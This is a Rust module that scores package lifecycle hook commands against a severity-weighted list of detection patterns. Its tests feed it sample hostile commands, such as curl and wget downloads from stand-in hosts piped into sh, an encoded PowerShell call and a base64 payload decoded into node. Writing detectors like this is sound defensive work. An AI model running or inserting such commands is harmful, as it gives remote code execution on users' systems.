//! Weighted rule set for lifecycle hook commands.

use crate::types::Result;
use regex::{Regex, RegexBuilder};

/// (pattern, description, severity). Severity runs 1 (low) to 5 (critical);
/// matching is case-insensitive.
const HOOK_RULES: &[(&str, &str, u32)] = &[
    (r"curl\s+.*\|\s*sh", "Downloads and pipes a remote script into a shell", 5),
    (r"wget\s+.*\|\s*sh", "Downloads and pipes a remote script into a shell", 5),
    (r"base64\s+(-d|--decode)", "Decodes base64 content (common obfuscation)", 4),
    (r"eval\s*\(", "Evaluates dynamically built code", 4),
    (r"fromCharCode", "Builds strings from character codes (obfuscation)", 3),
    (r"(process\.env|ENV\[)", "Reads environment variables", 3),
    (r"powershell", "Invokes PowerShell", 4),
    (r"(uname|whoami|id)", "Fingerprints the host system", 2),
];

/// One compiled hook-scanning rule.
pub struct HookRule {
    pub pattern: &'static str,
    pub regex: Regex,
    pub description: &'static str,
    pub severity: u32,
}

/// Compile the fixed rule table, preserving its order.
pub fn load_rules() -> Result<Vec<HookRule>> {
    HOOK_RULES
        .iter()
        .map(|&(pattern, description, severity)| {
            let regex = RegexBuilder::new(pattern)
                .case_insensitive(true)
                .build()?;
            Ok(HookRule {
                pattern,
                regex,
                description,
                severity,
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matching_rules(command: &str) -> Vec<&'static str> {
        load_rules()
            .unwrap()
            .iter()
            .filter(|rule| rule.regex.is_match(command))
            .map(|rule| rule.pattern)
            .collect()
    }

    #[test]
    fn test_every_pattern_compiles() {
        assert_eq!(load_rules().unwrap().len(), HOOK_RULES.len());
    }

    #[test]
    fn test_pipe_to_shell_matches_one_rule() {
        let matched = matching_rules("curl -s http://evil.example/x.sh | sh");
        assert_eq!(matched, vec![r"curl\s+.*\|\s*sh"]);
    }

    #[test]
    fn test_matching_is_case_insensitive() {
        assert!(!matching_rules("PowerShell -EncodedCommand SQBFAFgA").is_empty());
        assert!(!matching_rules("CURL http://x | SH").is_empty());
    }

    #[test]
    fn test_decode_flags() {
        assert!(!matching_rules("echo payload | base64 --decode | node").is_empty());
        assert!(!matching_rules("base64 -d blob.txt").is_empty());
        assert!(matching_rules("base64 encode.txt").is_empty());
    }

    #[test]
    fn test_env_access_variants() {
        assert!(!matching_rules("node -e \"process.env.TOKEN\"").is_empty());
        assert!(!matching_rules("ruby -e 'puts ENV[\"HOME\"]'").is_empty());
    }

    #[test]
    fn test_wget_pipe_and_charcode_obfuscation() {
        let matched = matching_rules("wget -qO- http://x.example/r.sh | sh");
        assert_eq!(matched, vec![r"wget\s+.*\|\s*sh"]);

        let matched = matching_rules("node -e \"String.fromCharCode(104,116)\"");
        assert_eq!(matched, vec!["fromCharCode"]);
    }

    #[test]
    fn test_benign_build_commands_stay_clean() {
        assert!(matching_rules("node-gyp rebuild").is_empty());
        assert!(matching_rules("tsc --build").is_empty());
    }
}
